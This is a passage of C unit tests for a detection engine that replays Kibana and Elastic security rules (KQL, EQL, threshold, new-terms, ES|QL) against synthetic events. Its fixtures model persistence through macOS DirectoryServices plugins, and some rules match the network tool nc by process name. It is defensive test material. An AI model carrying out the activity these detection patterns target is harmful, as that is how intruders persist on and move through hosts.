	         "\"language\":\"kuery\",\"query\":\"event.category:file\",\"interval\":\"1h\",\"from\":\"now-1d/d\","
	         "\"to\":\"now-1d/d\",\"severity\":\"low\",\"risk_score\":21,\"max_signals\":1000}\n"
	         "{\"rule_id\":\"long-rule\",\"name\":\"Long\",\"description\":\"d\",\"type\":\"query\","
	         "\"language\":\"kuery\",\"query\":\"event.category:file\",\"interval\":\"1s\","
	         "\"from\":\"now-1000000d\",\"severity\":\"low\",\"risk_score\":21,\"max_signals\":1000}\n");
	tu_write_str(tu_path("cal-rules.ndjson"), sb.buf);
	FILE *devnull = fopen("/dev/null", "w");
	struct import_counts c = {0};
	assert_int_equal(rules_import_file(db, tu_path("cal-rules.ndjson"), "t", &c, NULL), 0);
	fclose(devnull);
	assert_int_equal(c.rules_added, 2);
	strbuf_reset(&sb);
	for (int i = 0; i < 2000; i++) {
		char ts[40], id[16];
		snprintf(ts, sizeof(ts), "2024-05-01T%02d:%02d:%02dZ", i / 84 % 24, i % 60, (i * 7) % 60);
		snprintf(id, sizeof(id), "c%d", i);
		timed_event(&sb, id, ts, NULL);
	}
	ingest_text(sb.buf);
	struct detect_totals t = run_detect("day-rule", "2024-05-01T00:00:00Z", "2024-05-03T00:00:00Z");
	/* only executions on May 2 see May 1, the first of them (00:00) all of it */
	assert_int_equal(t.created, 2000);
	struct detect_totals l = run_detect("long-rule", NULL, NULL);
	assert_int_equal(l.matched, 2000);
	assert_int_equal(l.created, 2000);
	strbuf_release(&sb);
}

static void test_reference_exports_when_present(void **state)
{
	(void)state;
	if (!tu_corpus())
		skip();
	FILE *devnull = fopen("/dev/null", "w");
	struct import_counts c = {0};
	assert_int_equal(rules_import_file(db, "../shared/reference/kibana-export/7_16_rules.ndjson", "k", &c, NULL),
	                 0);
	assert_int_equal(c.rules_added, 1);
	assert_int_equal(c.lists, 1);
	assert_int_equal(c.items, 1);
	assert_int_equal(c.summaries, 1);
	memset(&c, 0, sizeof(c));
	assert_int_equal(
	    rules_import_file(db, "../shared/reference/kibana-export/8_18_prebuilt_rules.ndjson", "k", &c, NULL), 0);
	assert_int_equal(c.rules_added, 1);
	memset(&c, 0, sizeof(c));
	/* Elastic's own v107 package is the same rule and version as the pack's: an update */
	assert_int_equal(
	    rules_import_file(db, "../shared/reference/elastic-rule/v107_kibana_package.json", "k", &c, NULL), 0);
	assert_int_equal(c.rules_updated, 1);
	fclose(devnull);
}

/* ---- pruning must not change answers ---- */

static int collect_ids(void *ctx, const struct event_row *row)
{
	strbuf_addf(ctx, "%s ", row->r.identity);
	return 0;
}

struct brute {
	const struct kql_node *q;
	struct strbuf *sb;
};

static int brute_force(void *ctx, const struct event_row *row)
{
	struct brute *b = ctx;
	cJSON *ev = detect_event_json(row);
	if (ev && kql_match(b->q, ev))
		strbuf_addf(b->sb, "%s ", row->r.identity);
	cJSON_Delete(ev);
	return 0;
}

static void test_pruned_search_agrees_with_full_evaluation(void **state)
{
	(void)state;
	struct strbuf sb;
	strbuf_init(&sb, 65536);
	static const char *const paths[] = {"/Library/DirectoryServices/PlugIns/a.dsplug",
	                                    "/Library/DirectoryServices/PlugIns/b.dsplug/Contents/x",
	                                    "/Library/DirectoryServices/PlugIns",
	                                    "/Library/DirectoryServices/PlugInsX/c.dsplug",
	                                    "/Library/DirectoryServices/PlugIn",
	                                    "/Library/LaunchDaemons/d.plist",
	                                    "/library/directoryservices/plugins/e.dsplug",
	                                    "/tmp/\xc3\xa9t\xc3\xa9.dsplug",
	                                    "/Library/DirectoryServices/PlugIns/\xff\xff.dsplug"};
	int n = 0;
	for (int i = 0; i < 9; i++)
		for (int h = 0; h < 3; h++)
			strbuf_addf(
			    &sb,
			    "{\"@timestamp\":\"2024-05-01T10:%02d:00Z\",\"event\":{\"id\":\"p%d\",\"category\":"
			    "[\"file\"],\"type\":[\"%s\"]},\"host\":{\"name\":\"host%d\",\"os\":{\"type\":\"macos\"}},"
			    "\"file\":{\"path\":\"%s\"}}\n",
			    n % 60, n, h == 2 ? "deletion" : "change", h, paths[i]),
			    n++;
	/* irregular events: the path as an array, and given twice */
	strbuf_addstr(&sb,
	              "{\"@timestamp\":\"2024-05-01T10:30:00Z\",\"event\":{\"id\":\"arr\",\"category\":[\"file\"]},"
	              "\"host\":{\"name\":\"host0\",\"os\":{\"type\":\"macos\"}},\"file\":{\"path\":[\"/tmp/z\","
	              "\"/Library/DirectoryServices/PlugIns/arr.dsplug\"]}}\n"
	              "{\"@timestamp\":\"2024-05-01T10:31:00Z\",\"event\":{\"id\":\"twice\",\"category\":[\"file\"]},"
	              "\"host\":{\"name\":[\"host9\",\"host0\"],\"os\":{\"type\":\"macos\"}},\"file.path\":\"/tmp/y\","
	              "\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/twice.dsplug\"}}\n");
	ingest_text(sb.buf);
	strbuf_release(&sb);
	static const char *const queries[] = {
	    "event.category:file and host.os.type:macos and not event.type:deletion and "
	    "file.path:/Library/DirectoryServices/PlugIns/*.dsplug",
	    "file.path:/Library/DirectoryServices/PlugIns/*",
	    "file.path:\"/Library/DirectoryServices/PlugIns\"",
	    "file.path:/Library/DirectoryServices/PlugIn",
	    "file.path:/tmp/*",
	    "file.path:/Library/DirectoryServices/PlugIns/\xff*",
	    "host.name:host0 and file.path:*.dsplug",
	    "host.name:host1",
	    "file.path:(/tmp/z or /tmp/y)",
	    "not file.path:/Library/*",
	    "file.path:*plugins*",
	    "event.category:file",
	};
	for (size_t i = 0; i < sizeof(queries) / sizeof(queries[0]); i++) {
		struct kql_error err;
		struct kql_node *q = kql_parse(queries[i], &err);
		assert_non_null(q);
		struct strbuf pruned, full;
		strbuf_init(&pruned, 256);
		strbuf_init(&full, 256);
		assert_int_equal(detect_search(db, q, 0, collect_ids, &pruned), 0);
		struct brute b = {.q = q, .sb = &full};
		struct event_query all = {.want_doc = 1};
		assert_int_equal(store_events_each(db, &all, brute_force, &b), 0);
		if (strcmp(pruned.buf, full.buf))
			fail_msg("%s:\n pruned: %s\n full:   %s", queries[i], pruned.buf, full.buf);
		strbuf_release(&pruned);
		strbuf_release(&full);
		kql_free(q);
	}
}

/* A macOS event with event.action; proc (a process start) when path is NULL. */
static void defend_event(struct strbuf *sb, const char *id, const char *ts, const char *type, const char *action,
                         const char *path, const char *os, const char *proc)
{
	strbuf_addf(
	    sb,
	    "{\"@timestamp\":\"%s\",\"event\":{\"id\":\"%s\",\"ingested\":\"%s\",\"category\":[\"%s\"],"
	    "\"type\":[\"%s\"],\"action\":\"%s\"},\"host\":{\"id\":\"h1\",\"name\":\"mac1\",\"os\":{\"type\":\"%s\"}},",
	    ts, id, ts, path ? "file" : "process", type, action, os);
	if (path)
		strbuf_addf(sb, "\"file\":{\"path\":\"%s\"},\"process\":{\"name\":\"installer\"}}\n", path);
	else
		strbuf_addf(sb, "\"process\":%s}\n", proc);
}

#define V111     "89fa6cb7-6b53-4de2-b604-648488841ab8"
#define WRITE    "c8eba2ab-8a15-5f39-8567-e39add227654"
#define HELPER   "ae9867af-a891-526a-ba65-74ba4a81a975"
#define UTILITY  "1a8374da-5e3d-5443-9b59-b7491219a039"
#define THEN_RUN "6f0e5b2d-3c1a-5d4e-8f7a-9b0c1d2e3f45"
#define PLUGINS  "/Library/DirectoryServices/PlugIns/"

static int versions_line(void *ctx, const struct alert_row *a)
{
	strbuf_addf(ctx, "%lld ", (long long)a->rule_version);
	return 0;
}

static int sequence_alert(void *ctx, const struct alert_row *a)
{
	if (strcmp(a->rule_id, THEN_RUN))
		return 0;
	*(int64_t *)ctx = a->id;
	cJSON *doc = cJSON_Parse(a->doc);
	const cJSON *anc = cJSON_GetObjectItemCaseSensitive(doc, "kibana.alert.ancestors");
	assert_int_equal(cJSON_GetArraySize(anc), 2);
	assert_string_equal(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(cJSON_GetArrayItem(anc, 0), "id")),
	                    "lower");
	assert_string_equal(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(cJSON_GetArrayItem(anc, 1), "id")),
	                    "helper-child");
	assert_string_equal(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(doc, "kibana.alert.group.id")),
	                    a->uuid);
	assert_string_equal(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(doc, "kibana.alert.rule.type")),
	                    "eql");
	assert_string_equal(
	    cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(doc, "kibana.alert.rule.rule_type_id")),
	    "siem.eqlRule");
	assert_string_equal(cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(doc, "kibana.alert.severity")),
	                    "critical");
	cJSON_Delete(doc);
	return 0;
}

/* Version 111 (EQL) and the companion rules on the blind spots the issue names. */
static void test_companion_rules_and_v111(void **state)
{
	(void)state;
	int64_t changed;
	for (size_t i = 0; tu_companion_rules[i]; i++)
		assert_int_equal(store_rule_set_enabled(db, tu_companion_rules[i], -1, 1, &changed), 0);
	assert_int_equal(store_rule_set_enabled(db, V111, 111, 1, &changed), 0);
	assert_int_equal(changed, 1);
	struct strbuf sb;
	strbuf_init(&sb, 4096);
	const char *t = "2024-05-01T10:01:00Z";
	defend_event(&sb, "create", t, "creation", "creation", PLUGINS "a.dsplug", "macos", NULL);
	defend_event(&sb, "modify", t, "change", "modification", PLUGINS "b.dsplug", "macos", NULL);
	defend_event(&sb, "rename", t, "change", "rename", PLUGINS "c.dsplug", "macos", NULL);
	defend_event(&sb, "inside", t, "change", "modification", PLUGINS "j.dsplug/Contents/MacOS/j", "macos", NULL);
	defend_event(&sb, "upper", t, "change", "modification", PLUGINS "i.DSPLUG", "macos", NULL);
	defend_event(&sb, "delete", t, "deletion", "deletion", PLUGINS "e.dsplug", "macos", NULL);
	defend_event(&sb, "other", t, "change", "modification", "/Library/LaunchDaemons/l.plist", "macos", NULL);
	defend_event(&sb, "linux", t, "change", "modification", PLUGINS "g.dsplug", "linux", NULL);
	defend_event(&sb, "lower", t, "change", "modification", "/library/directoryservices/plugins/h.dsplug", "macos",
	             NULL);
	defend_event(&sb, "cp-start", t, "start", "exec", NULL, "macos",
	             "{\"name\":\"cp\",\"args\":[\"cp\",\"-R\",\"/tmp/x.dsplug\",\"" PLUGINS "\"]}");
	defend_event(&sb, "ls-start", t, "start", "exec", NULL, "macos",
	             "{\"name\":\"ls\",\"args\":[\"ls\",\"" PLUGINS "\"]}");
	defend_event(&sb, "helper-child", "2024-05-01T10:02:00Z", "start", "exec", NULL, "macos",
	             "{\"name\":\"sh\",\"parent\":{\"name\":\"dspluginhelperd\"}}");
	defend_event(&sb, "late-child", "2024-05-01T10:30:00Z", "start", "exec", NULL, "macos",
	             "{\"name\":\"sh\",\"parent\":{\"executable\":\"/usr/libexec/dspluginhelperd\"}}");
	ingest_text(sb.buf);
	strbuf_release(&sb);
	struct detect_totals tot = run_detect(NULL, NULL, NULL);
	assert_int_equal(tot.rules, 6);
	assert_int_equal(tot.skipped, 0);
	const char *at = " 2024-05-01T10:01:00.000000Z\n";
	struct strbuf want;
	strbuf_init(&want, 2048);
	/* the helper rule: both children; the sequence: the last plugin write, then the child within
	 * 10m (the late child is 29 minutes on) */
	strbuf_addf(&want, "%s lower%s", THEN_RUN, at);
	strbuf_addf(&want, "%s create%s%s modify%s%s rename%s", SEED, at, SEED, at, SEED, at);
	strbuf_addf(&want, "%s modify%s", V111, at); /* 111: modification only, case-sensitive */
	strbuf_addf(&want, "%s cp-start%s", UTILITY, at);
	strbuf_addf(&want, "%s helper-child 2024-05-01T10:02:00.000000Z\n%s late-child 2024-05-01T10:30:00.000000Z\n",
	            HELPER, HELPER);
	strbuf_addf(&want, "%s create%s%s inside%s%s lower%s%s modify%s%s rename%s%s upper%s", WRITE, at, WRITE, at,
	            WRITE, at, WRITE, at, WRITE, at, WRITE, at);
	tu_sort_lines(&want); /* the way alerts() sorts */
	assert_string_equal(alerts(), want.buf);
	strbuf_release(&want);
	/* both versions of the seed rule alerted, each alert carrying its version */
	struct strbuf v;
	strbuf_init(&v, 64);
	struct alert_query q = {.rule_id = SEED};
	assert_int_equal(store_alerts_each(db, &q, versions_line, &v), 0);
	assert_int_equal(tu_count(v.buf, "107 "), 3);
	assert_int_equal(tu_count(v.buf, "111 "), 1);
	strbuf_release(&v);
	/* the sequence's alert lists both events, in order, for the console's timeline */
	int64_t id = 0;
	struct alert_query all = {0};
	assert_int_equal(store_alerts_each(db, &all, sequence_alert, &id), 0);
	assert_true(id > 0);
	int64_t *ids;
	size_t nids;
	assert_int_equal(store_alert_events(db, id, &ids, &nids), 0);
	assert_int_equal(nids, 2);
	assert_true(ids[0] < ids[1]);
	free(ids);
	/* a rerun finds every alert made already */
	tot = run_detect(NULL, NULL, NULL);
	assert_int_equal(tot.created, 0);
}

/* One convention: a rule id nobody stored is CB_NOT_FOUND, with its one message. */
static void test_no_such_rule_is_a_named_status(void **state)
{
	(void)state;
	struct detect_options o = {.rule_id = "no-such-rule", .now_us = NOW};
	struct detect_totals t;
	assert_int_equal(detect_run(db, &o, &t), CB_NOT_FOUND);
	assert_string_equal(cb_status_message(CB_NOT_FOUND), "no such rule");
	assert_string_equal(cb_status_message(TRIAGE_OPEN_ITEMS), "checklist items are open");
	assert_string_equal(cb_status_message(42), "unknown status");
}

/* ---- rule types: threshold and new terms ---- */

static void import_rule_text(const char *json)
{
	static int n;
	char name[32];
	snprintf(name, sizeof(name), "rule-%d.json", ++n);
	tu_write_str(tu_path(name), json);
	struct import_counts c = {0};
	FILE *devnull = fopen("/dev/null", "w");
	assert_int_equal(rules_import_file(db, tu_path(name), name, &c, NULL), 0);
	fclose(devnull);
	assert_int_equal(c.rules_added, 1);
	assert_int_equal(c.unsupported, 0);
}

static void process_event(struct strbuf *sb, const char *id, const char *ts, const char *host, const char *name,
                          const char *user)
{
	strbuf_addf(sb,
	            "{\"@timestamp\":\"%s\",\"event\":{\"id\":\"%s\",\"category\":[\"process\"],\"type\":[\"start\"]},"
	            "\"host\":{\"id\":\"%s\",\"name\":\"%s\"},\"process\":{\"name\":%s},\"user\":{\"name\":\"%s\"}}\n",
	            ts, id, host, host, name, user);
}

/* One line per alert: the type's own fields, sorted (what Kibana's alert documents say). */
static int type_line(void *ctx, const struct alert_row *a)
{
	(void)ctx;
	cJSON *doc = cJSON_Parse(a->doc);
	char t[TIME_ISO_LEN];
	time_format_iso8601(a->original_time, t);
	const cJSON *res = cJSON_GetObjectItemCaseSensitive(doc, "kibana.alert.threshold_result");
	const cJSON *terms = cJSON_GetObjectItemCaseSensitive(doc, "kibana.alert.new_terms");
	const char *type = cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(doc, "kibana.alert.rule.type"));
	char *what = cJSON_PrintUnformatted(res ? res : terms);
	const cJSON *anc = cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(doc, "kibana.alert.ancestors"), 0);
	const char *id = cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(anc, "id"));
	strbuf_addf(&out, "%s %s %s %s\n", type ? type : "?", id ? id : "-", t, what ? what : "null");
	cJSON_free(what);
	cJSON_Delete(doc);
	return 0;
}

static const char *type_alerts(void)
{
	strbuf_reset(&out);
	struct alert_query q = {0};
	assert_int_equal(store_alerts_each(db, &q, type_line, NULL), 0);
	return out.buf;
}

#define RULE_HEAD(id, type)                                                                                            \
	"{\"rule_id\":\"" id "\",\"name\":\"" id "\",\"description\":\"d\",\"risk_score\":47,\"severity\":\"medium\"," \
	"\"type\":\"" type "\",\"interval\":\"5m\",\"from\":\"now-6m\",\"query\":\"event.category:process\","

/* Kibana's threshold rule: a group per host.id; an execution alerts on a group with at least
 * value events; what an alert counted is not counted again; cardinality counts distinct users. */
static void test_threshold_rule(void **state)
{
	(void)state;
	import_rule_text(RULE_HEAD("th", "threshold") "\"threshold\":{\"field\":[\"host.id\"],\"value\":3}}");
	import_rule_text(RULE_HEAD("th-card", "threshold") "\"threshold\":{\"field\":\"host.id\",\"value\":3,"
	                                                   "\"cardinality\":[{\"field\":\"user.name\",\"value\":2}]}}");
	struct strbuf sb;
	strbuf_init(&sb, 4096);
	/* host a: four at 10:01 (one user), three at 10:12 (three users); host b: two */
	process_event(&sb, "a1", "2024-05-01T10:01:00Z", "a", "\"sh\"", "u1");
	process_event(&sb, "a2", "2024-05-01T10:01:01Z", "a", "\"sh\"", "u1");
	process_event(&sb, "a3", "2024-05-01T10:01:02Z", "a", "\"sh\"", "u1");
	process_event(&sb, "a4", "2024-05-01T10:01:03Z", "a", "\"sh\"", "u1");
	process_event(&sb, "b1", "2024-05-01T10:01:00Z", "b", "\"sh\"", "u1");
	process_event(&sb, "b2", "2024-05-01T10:02:00Z", "b", "\"sh\"", "u2");
	process_event(&sb, "a5", "2024-05-01T10:12:00Z", "a", "\"sh\"", "u1");
	process_event(&sb, "a6", "2024-05-01T10:12:01Z", "a", "\"sh\"", "u2");
	process_event(&sb, "a7", "2024-05-01T10:12:02Z", "a", "\"sh\"", "u3");
	ingest_text(sb.buf);
	strbuf_release(&sb);
	struct detect_options o = {.now_us = NOW};
	struct detect_totals t;
	assert_int_equal(detect_run(db, &o, &t), 0);
	/* th: a at 10:05 (four; 10:10's overlap sees none new), a at 10:15 (three); th-card: only at 10:15 */
	assert_int_equal(t.created, 3);
	assert_string_equal(
	    type_alerts(),
	    "threshold - 2024-05-01T10:01:03.000000Z "
	    "{\"terms\":[{\"field\":\"host.id\",\"value\":\"a\"}],\"count\":4,\"from\":\"2024-05-01T09:59:00.000000Z\"}"
	    "\n"
	    "threshold - 2024-05-01T10:12:02.000000Z "
	    "{\"terms\":[{\"field\":\"host.id\",\"value\":\"a\"}],\"count\":3,\"from\":\"2024-05-01T10:09:00.000000Z\"}"
	    "\n"
	    "threshold - 2024-05-01T10:12:02.000000Z "
	    "{\"terms\":[{\"field\":\"host.id\",\"value\":\"a\"}],\"count\":3,\"from\":\"2024-05-01T10:09:00.000000Z\","
	    "\"cardinality\":[{\"field\":\"user.name\",\"value\":3}]}\n");
	/* again: nothing new */
	assert_int_equal(detect_run(db, &o, &t), 0);
	assert_int_equal(t.created, 0);
	/* a later burst on host a counts only what came after the last alert */
	strbuf_init(&sb, 1024);
	process_event(&sb, "a8", "2024-05-01T10:13:00Z", "a", "\"sh\"", "u1");
	process_event(&sb, "a9", "2024-05-01T10:13:01Z", "a", "\"sh\"", "u1");
	ingest_text(sb.buf);
	strbuf_release(&sb);
	assert_int_equal(detect_run(db, &o, &t), 0);
	assert_int_equal(t.created, 0); /* two since the last alert: under 3 */
}

/* Kibana's new terms rule: an event alerts when its host.id and process.name together were not
 * seen in the history window (now-1h up to the window); once per term and execution, on its
 * earliest event; an array gives a term per value. */
static void test_new_terms_rule(void **state)
{
	(void)state;
	import_rule_text(RULE_HEAD("nt", "new_terms") "\"new_terms_fields\":[\"host.id\",\"process.name\"],"
	                                              "\"history_window_start\":\"now-1h\"}");
	struct strbuf sb;
	strbuf_init(&sb, 4096);
	process_event(&sb, "e1", "2024-05-01T09:30:00Z", "a", "\"curl\"", "u"); /* history */
	process_event(&sb, "e2", "2024-05-01T10:01:00Z", "a", "\"curl\"", "u"); /* seen at 09:30 */
	process_event(&sb, "e3", "2024-05-01T10:02:00Z", "a", "\"nc\"", "u");   /* new */
	process_event(&sb, "e4", "2024-05-01T10:03:00Z", "a", "\"nc\"", "u");   /* the same term, later */
	process_event(&sb, "e5", "2024-05-01T10:12:00Z", "b", "\"curl\"", "u"); /* new on host b */
	process_event(&sb, "e6", "2024-05-01T08:00:00Z", "c", "\"ssh\"", "u");  /* before the history */
	process_event(&sb, "e7", "2024-05-01T10:13:00Z", "c", "\"ssh\"", "u");  /* so new */
	process_event(&sb, "e8", "2024-05-01T10:14:00Z", "d", "[\"x\",\"y\"]", "u");
	ingest_text(sb.buf);
	strbuf_release(&sb);
	struct detect_options o = {.now_us = NOW};
	struct detect_totals t;
	assert_int_equal(detect_run(db, &o, &t), 0);
	/* every execution from the case's first event runs: e6 and e1 are new in theirs too */
	assert_int_equal(t.created, 7);
	assert_string_equal(type_alerts(), "new_terms e6 2024-05-01T08:00:00.000000Z [\"c\",\"ssh\"]\n"
	                                   "new_terms e1 2024-05-01T09:30:00.000000Z [\"a\",\"curl\"]\n"
	                                   "new_terms e3 2024-05-01T10:02:00.000000Z [\"a\",\"nc\"]\n"
	                                   "new_terms e5 2024-05-01T10:12:00.000000Z [\"b\",\"curl\"]\n"
	                                   "new_terms e7 2024-05-01T10:13:00.000000Z [\"c\",\"ssh\"]\n"
	                                   "new_terms e8 2024-05-01T10:14:00.000000Z [\"d\",\"y\"]\n" /* by uuid */
	                                   "new_terms e8 2024-05-01T10:14:00.000000Z [\"d\",\"x\"]\n");
	assert_int_equal(detect_run(db, &o, &t), 0);
	assert_int_equal(t.created, 0);
}

static int esql_line(void *ctx, const struct alert_row *a)
{
	(void)ctx;
	cJSON *doc = cJSON_Parse(a->doc);
	char t[TIME_ISO_LEN];
	time_format_iso8601(a->original_time, t);
	const cJSON *anc = cJSON_GetArrayItem(cJSON_GetObjectItemCaseSensitive(doc, "kibana.alert.ancestors"), 0);
	const char *id = cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(anc, "id"));
	char *x = cJSON_PrintUnformatted(cJSON_GetObjectItemCaseSensitive(doc, "x"));
	strbuf_addf(&out, "%s %s %s %s %s\n",
	            cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(doc, "kibana.alert.rule.type")),
	            id ? id : "-", t, x ? x : "none",
	            cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(doc, "kibana.alert.rule.category")));
	cJSON_free(x);
	cJSON_Delete(doc);
	return 0;
}

/* The x of an alert of the rule ctx, one a line. */
static int x_line(void *ctx, const struct alert_row *a)
{
	cJSON *doc = cJSON_Parse(a->doc);
	const char *rule = cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(doc, "kibana.alert.rule.rule_id"));
	if (!rule || strcmp(rule, ctx)) {
		cJSON_Delete(doc);
		return 0;
	}
	char *x = cJSON_PrintUnformatted(cJSON_GetObjectItemCaseSensitive(doc, "x"));
	strbuf_addf(&out, "%s\n", x ? x : "none");
	cJSON_free(x);
	cJSON_Delete(doc);
	return 0;
}

static int by_line(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

/* The lines of text, sorted (each ends in a newline). */
static char *sorted_lines(const char *text)
{
	char *copy = xstrdup(text), *lines[64];
	size_t n = 0;
	for (char *s = copy, *nl; n < 64 && (nl = strchr(s, '\n')); s = nl + 1) {
		*nl = 0;
		lines[n++] = s;
	}
	qsort(lines, n, sizeof(*lines), by_line);
	struct strbuf sb;
	strbuf_init(&sb, strlen(text) + 1);
	for (size_t i = 0; i < n; i++)
		strbuf_addf(&sb, "%s\n", lines[i]);
	free(copy);
	return strbuf_detach(&sb, NULL);
}

/* ES|QL rules as Kibana runs them: a query keeping METADATA _id alerts on each row's source
 * event, with the columns it computed, once however many executions see it; an aggregating
 * query alerts with its row, per execution; exceptions filter the events first. */
static void test_esql_rule(void **state)
{
	(void)state;
	import_rule_text(
	    "{\"rule_id\":\"eq\",\"name\":\"eq\",\"description\":\"d\",\"risk_score\":47,"
	    "\"severity\":\"medium\",\"type\":\"esql\",\"language\":\"esql\",\"interval\":\"5m\","
	    "\"from\":\"now-6m\",\"query\":\"FROM logs-endpoint.events.* METADATA _id | WHERE process.name "
	    "== \\\"nc\\\" | EVAL x = CONCAT(host.id, \\\":\\\", user.name)\","
	    "\"exceptions_list\":[]}");
	import_rule_text("{\"rule_id\":\"ea\",\"name\":\"ea\",\"description\":\"d\",\"risk_score\":47,"
	                 "\"severity\":\"medium\",\"type\":\"esql\",\"interval\":\"5m\",\"from\":\"now-6m\","
	                 "\"query\":\"FROM logs-* | STATS x = COUNT(*) BY host.id | WHERE x >= 2\"}");
	struct strbuf sb;
	strbuf_init(&sb, 4096);
	process_event(&sb, "e1", "2024-05-01T10:01:00Z", "a", "\"nc\"", "u");
	process_event(&sb, "e2", "2024-05-01T10:02:00Z", "a", "\"curl\"", "u");
	process_event(&sb, "e3", "2024-05-01T10:03:00Z", "a", "\"nc\"", "v");
	process_event(&sb, "e4", "2024-05-01T10:04:00Z", "b", "\"nc\"", "w");
	ingest_text(sb.buf);
	strbuf_release(&sb);
	struct detect_options o = {.now_us = NOW};
	struct detect_totals t;
	assert_int_equal(detect_run(db, &o, &t), 0);
	/* the execution at 10:05 sees host a three times; the one at 10:10 once (from 10:04) */
	assert_int_equal(t.created, 4);
	strbuf_reset(&out);
	struct alert_query q = {0};
	assert_int_equal(store_alerts_each(db, &q, esql_line, NULL), 0);
	assert_string_equal(out.buf, "esql - 2024-05-01T10:01:00.000000Z 3 ES|QL Rule\n" /* by time, then uuid */
	                             "esql e1 2024-05-01T10:01:00.000000Z \"a:u\" ES|QL Rule\n"
	                             "esql e3 2024-05-01T10:03:00.000000Z \"a:v\" ES|QL Rule\n"
	                             "esql e4 2024-05-01T10:04:00.000000Z \"b:w\" ES|QL Rule\n");
	assert_int_equal(detect_run(db, &o, &t), 0);
	assert_int_equal(t.created, 0);
}

/* STATS without BY answers one row over no rows (COUNT(*) 0), as Elasticsearch does: an
 * execution whose window holds events that gave no row alerts with it; executions that see
 * no event are not run (Kibana's would alert on every one). */
static void test_esql_stats_over_no_rows(void **state)
{
	(void)state;
	import_rule_text("{\"rule_id\":\"e0\",\"name\":\"e0\",\"description\":\"d\",\"risk_score\":47,"
	                 "\"severity\":\"medium\",\"type\":\"esql\",\"interval\":\"5m\",\"from\":\"now-6m\","
	                 "\"query\":\"FROM logs-* | WHERE process.name == \\\"none\\\" | STATS c = COUNT(*)\"}");
	struct strbuf sb;
	strbuf_init(&sb, 4096);
	process_event(&sb, "e1", "2024-05-01T10:01:00Z", "a", "\"nc\"", "u");
	process_event(&sb, "e2", "2024-05-01T10:21:00Z", "a", "\"curl\"", "u");
	ingest_text(sb.buf);
	strbuf_release(&sb);
	struct detect_options o = {.now_us = NOW};
	struct detect_totals t;
	assert_int_equal(detect_run(db, &o, &t), 0);
	assert_int_equal(t.created, 2); /* the executions at 10:05 and 10:25, each c = 0 */
}

/* NOW() after STATS is each execution's time, as Kibana runs the query at each execution (the
 * "newly observed" rules: DATE_DIFF("minute", first_seen, NOW())): the executions whose window
 * holds the same row answer apart. Before STATS (a per-event condition) the rule is skipped,
 * said. */
static void test_esql_now_is_the_execution_time(void **state)
{
	(void)state;
	import_rule_text("{\"rule_id\":\"enow\",\"name\":\"enow\",\"description\":\"d\",\"risk_score\":47,"
	                 "\"severity\":\"medium\",\"type\":\"esql\",\"interval\":\"5m\",\"from\":\"now-30m\","
	                 "\"query\":\"FROM logs-* | STATS first = MIN(@timestamp) BY host.id | EVAL age = "
	                 "DATE_DIFF(\\\"minute\\\", first, NOW()) | WHERE age <= 5\"}");
	struct strbuf sb;
	strbuf_init(&sb, 1024);
	process_event(&sb, "e1", "2024-05-01T10:01:00Z", "a", "\"nc\"", "u");
	process_event(&sb, "e2", "2024-05-01T10:22:00Z", "b", "\"nc\"", "u");
	ingest_text(sb.buf);
	strbuf_release(&sb);
	/* host a is 4 minutes old at 10:05 (an alert), 9 to 19 at 10:10 to 10:20 (none, though their
	 * windows hold the same row); at 10:25, b is 3 (an alert) and a 24 */
	struct detect_totals t = run_detect("enow", NULL, NULL);
	assert_int_equal(t.created, 2);

	static const struct {
		const char *query, *why;
	} skipped[] = {
	    /* valid ES|QL (function named parameters), named rather than called a syntax error */
	    {"FROM logs-* | WHERE MATCH(process.name, \\\"svchost.exe\\\", {\\\"analyzer\\\": \\\"whitespace\\\"})",
	     "MATCH's option [analyzer] is not one casebook applies yet (at offset 56)"},
	};
	for (size_t i = 0; i < sizeof(skipped) / sizeof(skipped[0]); i++) {
		char text[512];
		snprintf(text, sizeof(text),
		         "{\"rule_id\":\"enow2\",\"name\":\"n\",\"description\":\"d\",\"risk_score\":1,"
		         "\"severity\":\"low\",\"type\":\"esql\",\"query\":\"%s\"}",
		         skipped[i].query);
		cJSON *obj = cJSON_Parse(text);
		assert_non_null(obj);
		struct rule r;
		char why[200];
		assert_int_equal(rule_from_json(obj, &r, why, sizeof(why)), 0);
		if (!r.unsupported || strcmp(r.unsupported, skipped[i].why))
			fail_msg("case %zu: %s", i, r.unsupported ? r.unsupported : "(runs)");
		rule_release(&r);
		cJSON_Delete(obj);
	}
}

/* NOW() before the first STATS (Elastic's "@timestamp >= NOW() - 7 days", "where @timestamp >
 * now() - 1 hours" before their STATS) is each execution's time too: Elasticsearch evaluates it
 * once for the query (EsqlSession's configuration.now(), the request's time), and Kibana sends
 * the query at each execution. Executions every 5 minutes over 30 minutes' windows, 10:05 to 10:25
 * (the case's events at 10:01 and 10:22; detect replays up to the first execution after the
 * last); each answers over its own window with its own NOW(). */
static void test_esql_now_before_stats(void **state)
{
	(void)state;
	static const struct {
		const char *query;
		int created;
		const char *alerts; /* x of each alert, sorted */
	} cases[] = {
	    /* in (T - 10m, T]: 10:01 at 10:05 and 10:10, 10:22 at 10:25 (10:15's and 10:20's c is 0) */
	    {"FROM logs-* | WHERE @timestamp > NOW() - 10 minutes | STATS c = COUNT(*) | WHERE c > 0 | EVAL "
	     "x = CONCAT(TO_STRING(c), \\\" \\\", TO_STRING(NOW()))",
	     3,
	     "\"1 2024-05-01T10:05:00.000Z\"\n\"1 2024-05-01T10:10:00.000Z\"\n"
	     "\"1 2024-05-01T10:25:00.000Z\"\n"},
	    /* the other conditions of the WHERE run per event (host.id == "b": 10:22 only) */
	    {"FROM logs-* | WHERE host.id == \\\"b\\\" AND @timestamp > NOW() - 10 minutes | STATS c = COUNT(*) "
